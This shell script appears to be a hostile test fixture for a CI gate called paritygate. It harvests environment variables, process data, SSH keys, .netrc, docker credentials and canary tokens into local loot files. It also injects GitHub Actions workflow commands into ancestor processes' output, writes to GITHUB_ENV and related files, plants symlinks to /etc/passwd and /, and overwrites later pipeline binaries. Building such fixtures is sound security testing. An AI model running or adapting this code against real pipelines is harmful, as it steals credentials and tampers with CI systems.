# An engine of a hostile change: thief.sh TRACE. It takes what it can reach and
# speaks to the runner in every way, then hands out a sound trace so that nobody
# looks. What it finds goes to loot-* in its folder, for the test to read.

# Secrets: its own environment, that of every process, every file it may read.
env >loot-environment
for p in /proc/[0-9]*; do
	tr '\0' '\n' <"$p/environ"
	tr '\0' ' ' <"$p/cmdline"
	echo
done >loot-processes 2>/dev/null
cat /proc/self/mountinfo >loot-mounts
grep -E '^(Cap|NoNewPrivs|Uid|Gid)' /proc/self/status >loot-rights
grep -rIsl --exclude-dir=proc --exclude-dir=sys "ghs_CANAR[Y]" ${THIEF_SEARCHES:-/} >loot-tokens
for path in /var/run/docker.sock /run/docker.sock "$HOME/.docker/config.json" "$HOME/.ssh" "$HOME/.netrc" .git/config; do
	[ ! -r "$path" ] || { echo "== $path"; [ ! -f "$path" ] || cat "$path"; }
done >loot-credentials

# Commands, as a line of their own and hidden in one: on its own outputs, and
# straight on those of the gate and of what started the gate.
commands() {
	printf '%s\n' '' '::set-output name=outcome::pwned' '::set-env name=PWNED::1' '::add-path::/pwned' '::add-mask::pass' \
		'::save-state name=pwned::1' '::error file=parity.yaml,line=1::pwned' '::notice::pwned' '::stop-commands::pwned' \
		'##[set-env name=PWNED;]1' '  ::set-env name=PWNED::1'
	printf 'progress\r::set-env name=PWNED::1\n\033[2K::set-env name=PWNED::1\nno end of line ::set-env name=PWNED::1'
}
commands
commands >&2
pid=$$
for ancestor in gate step; do
	pid=$(sed 's/.*) . //' "/proc/$pid/stat" | cut -d ' ' -f 1)
	for fd in 1 2; do
		(commands >"/proc/$pid/fd/$fd" && echo "$ancestor $fd" >>loot-outputs) 2>/dev/null
	done
done

# The runner's files, where this runner has them, and everything of the kind.
for file in envs outputcmd pathcmd statecmd SUMMARY; do
	for path in ../act/workflow/$file.txt ../act/workflow/$file.md; do
		[ ! -e "$path" ] || printf 'PWNED=1\noutcome=pwned\n' >>"$path"
	done
done
for path in ${GITHUB_ENV:-} ${GITHUB_OUTPUT:-} ${GITHUB_PATH:-} ${GITHUB_STEP_SUMMARY:-}; do
	echo 'PWNED=1' >>"$path"
done

# Links where reports are written and read, and in the workspace.
out=$(tr '\0' '\n' <"/proc/$PPID/cmdline" | grep -A1 -x -e --out | tail -n 1)
echo "$out" >loot-out
for name in results.json comment.md report.txt junit.xml; do
	ln -sfn ../plan.json "$out/$name"
	ln -sfn /etc/passwd "$name"
done
rm -rf "$out/reports" reports
ln -s / "$out/reports"
ln -s / reports
# Later steps' programs and its own image.
for path in "$out"/../plan.json "$out"/../base-spec.yaml "$out"/../../paritygate-bin-*/paritygate /usr/local/bin/paritygate /opt/paritygate/paritygate /etc/pwned; do
	[ -n "${THIEF_SPARES:-}" ] || (echo pwned >"$path") 2>/dev/null && echo "$path" >>loot-written
done

cp candidate.safetensors "$1"
